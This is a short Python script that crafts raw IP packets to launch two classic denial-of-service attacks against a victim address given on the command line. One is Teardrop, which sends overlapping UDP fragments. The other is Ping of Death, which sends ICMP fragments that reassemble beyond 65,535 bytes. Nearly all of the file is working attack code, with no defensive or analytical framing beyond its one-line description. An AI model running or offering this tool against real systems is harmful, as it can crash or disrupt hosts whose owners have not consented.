#!/usr/bin/env python3
"""Packets that crashed old systems: malformed.py teardrop|death VICTIM COUNT. Teardrop: fragments that overlap; death: fragments beyond 65,535 bytes."""
import random
import socket
import struct
import sys
import time

kind, victim, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send(ident, offset, more, protocol, data):
    flags = (0x2000 if more else 0) | offset // 8
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), ident, flags, 64, protocol, 0, b"\0\0\0\0", socket.inet_aton(victim)) + data, (victim, 0))


for _ in range(count):
    ident = random.randint(1, 65535)
    if kind == "teardrop":
        send(ident, 0, True, 17, struct.pack("!4H", 5000, 80, 44, 0) + b"a" * 28)
        send(ident, 24, False, 17, b"b" * 4)
    else:
        for at in range(0, 65528, 1480):
            send(ident, at, True, 1, (struct.pack("!BBHHH", 8, 0, 0, 1, 1) if at == 0 else b"") + b"c" * (1472 if at == 0 else 1480))
        send(ident, 65528, False, 1, b"d" * 400)
    time.sleep(0.05)
